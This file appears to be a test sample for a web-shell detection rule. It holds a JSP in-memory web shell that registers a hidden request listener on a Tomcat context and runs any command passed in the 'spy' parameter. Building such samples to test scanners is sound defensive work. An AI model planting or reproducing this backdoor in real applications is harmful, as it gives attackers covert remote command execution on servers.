<%-- expect rule=jsp.memshell min=85 --%>
<%@ page import="javax.servlet.*,org.apache.catalina.core.StandardContext" %>
<%!
    public class Spy implements ServletRequestListener {
        public void requestDestroyed(ServletRequestEvent e) { }
        public void requestInitialized(ServletRequestEvent e) {
            String c = e.getServletRequest().getParameter("spy");
            try { if (c != null) Runtime.getRuntime().exec(c); } catch (Exception x) { }
        }
    }
%>
<%
    StandardContext ctx = (StandardContext) request.getAttribute("ctx");
    ctx.addApplicationEventListener(new Spy());
%>
